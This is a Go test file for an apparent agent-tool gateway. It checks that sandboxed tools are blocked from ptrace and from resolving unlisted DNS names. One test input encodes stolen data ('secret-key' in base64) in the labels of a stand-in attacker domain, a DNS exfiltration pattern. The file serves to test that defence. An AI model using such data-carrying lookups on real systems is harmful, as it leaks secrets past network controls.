package gateway_test

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"strings"
	"sync"
	"testing"

	"github.com/cedar-policy/cedar-go"

	"github.com/bulkhead-dev/bulkhead/internal/gateway"
	"github.com/bulkhead-dev/bulkhead/internal/gateway/gatewaytest"
	"github.com/bulkhead-dev/bulkhead/internal/sandbox"
)

// tasks is a control plane's task side: one open task, which reports of
// suspect output taint.
type tasks struct {
	mu      sync.Mutex
	tainted map[string]string // task -> why
}

func (s *tasks) TaskState(_ context.Context, id string) (gateway.TaskState, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	_, tainted := s.tainted[id]
	return gateway.TaskState{ID: id, Agent: "spiffe://bulkhead.local/agent/alpha", Manifest: "m", Open: true, Tainted: tainted}, nil
}

func (s *tasks) ReportOutput(_ context.Context, task, _ string, _ cedar.EntityUID, suspect string) (bool, bool, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if suspect != "" {
		s.tainted[task] = suspect
	}
	_, tainted := s.tainted[task]
	return suspect != "", tainted, nil
}

func (s *tasks) UseGrant(context.Context, string, gateway.GrantUse) error { return nil }

// A compromised stdio tool, sandboxed, tries ptrace in an agent's task:
// the refusal is recorded with the agent and the task before the call
// returns, and the task is tainted, so what the tool says next is
// untrusted (and the guardrails refuse the task's writes).
func TestSandboxViolationTaintsTheTask(t *testing.T) {
	if err := sandbox.Check().Enforce(); err != nil {
		t.Skip(err)
	}
	cmd, env, dir := gatewaytest.SandboxedStdioCommand(t)
	src := &tasks{tainted: map[string]string{}}
	h := startGatewayWith(t, &decider{}, fmt.Sprintf(`  - name: notes
    mcp: { command: [%q, %q], env: [%q, %q], sandbox: { read: [%q] } }
    callers: ["spiffe://bulkhead.local/agent/*"]
`, cmd[0], cmd[1], env[0], env[1], dir), src)
	hc := h.agentIn(t, "alpha", "task-1")
	sid := h.sessionTo(t, hc, "notes")
	_, body, _, err := h.mcpPostTo(hc, "notes", sid, `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"whoami","arguments":{"query":"ptrace"}}}`)
	if err != nil || !strings.Contains(body, "operation not permitted") {
		t.Fatalf("ptrace: %v %s", err, body)
	}
	recordedAndTainted(t, h, src, gateway.ActionSandboxViolation, "syscall", "ptrace", "ptrace")
}

// recordedAndTainted checks that a refusal was recorded as action by
// alpha in task-1 with detail[key] == value, and that the task was
// tainted with a reason containing why.
func recordedAndTainted(t *testing.T, h *harness, src *tasks, action, key, value, why string) {
	t.Helper()
	var found bool
	for _, ev := range h.Rec.all() {
		if ev.Action == action && ev.Detail[key] == value {
			found = ev.Actor.ID == "spiffe://bulkhead.local/agent/alpha" && ev.Task == "task-1"
		}
	}
	if !found {
		t.Fatalf("no %s record naming the agent and task: %v", action, h.Rec.actions())
	}
	src.mu.Lock()
	got := src.tainted["task-1"]
	src.mu.Unlock()
	if !strings.Contains(got, why) {
		t.Fatalf("the task was not tainted for it: %q", got)
	}
}

// A sandboxed tool resolves names only through its DNS stub: a name its
// sandbox lists (and the policy allows) resolves; a name carrying stolen
// data in its labels does not, never leaves the gateway, is recorded with
// the agent and task, and taints the task.
func TestSandboxedToolResolvesOnlyAllowedNames(t *testing.T) {
	if err := sandbox.Check().Enforce(); err != nil {
		t.Skip(err)
	}
	cmd, env, dir := gatewaytest.SandboxedStdioCommand(t)
	src := &tasks{tainted: map[string]string{}}
	h := startGatewayWith(t, &decider{}, fmt.Sprintf(`  - name: notes
    mcp: { command: [%q, %q], env: [%q, %q], sandbox: { read: [%q], egress: ["api.example.com:443"] } }
    callers: ["spiffe://bulkhead.local/agent/*"]
`, cmd[0], cmd[1], env[0], env[1], dir), src)
	var asked []string
	var mu sync.Mutex
	gateway.SetLookup(h.G, func(_ context.Context, network, host string) ([]netip.Addr, error) {
		mu.Lock()
		asked = append(asked, host)
		mu.Unlock()
		if host == "api.example.com" && network == "ip4" {
			return []netip.Addr{netip.MustParseAddr("203.0.113.7")}, nil
		}
		return nil, &net.DNSError{Err: "no such host", Name: host, IsNotFound: true}
	})
	hc := h.agentIn(t, "alpha", "task-1")
	sid := h.sessionTo(t, hc, "notes")
	probe := func(q string) string {
		_, body, _, err := h.mcpPostTo(hc, "notes", sid, `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"whoami","arguments":{"query":"`+q+`"}}}`)
		if err != nil {
			t.Fatal(err)
		}
		return body
	}
	if out := probe("resolve:api.example.com"); !strings.Contains(out, `resolved [203.0.113.7]: <nil>`) {
		t.Fatalf("an allowed name: %s", out)
	}
	if out := probe("resolve:c2VjcmV0LWtleQ.attacker.example"); !strings.Contains(out, "no such host") {
		t.Fatalf("a name carrying data resolved: %s", out)
	}
	mu.Lock()
	for _, a := range asked {
		if a != "api.example.com" {
			t.Errorf("the gateway looked up %q for the sandbox", a)
		}
	}
	mu.Unlock()
	recordedAndTainted(t, h, src, gateway.ActionResolve, "name", strings.ToLower("c2VjcmV0LWtleQ.attacker.example"), "refused the name")
}
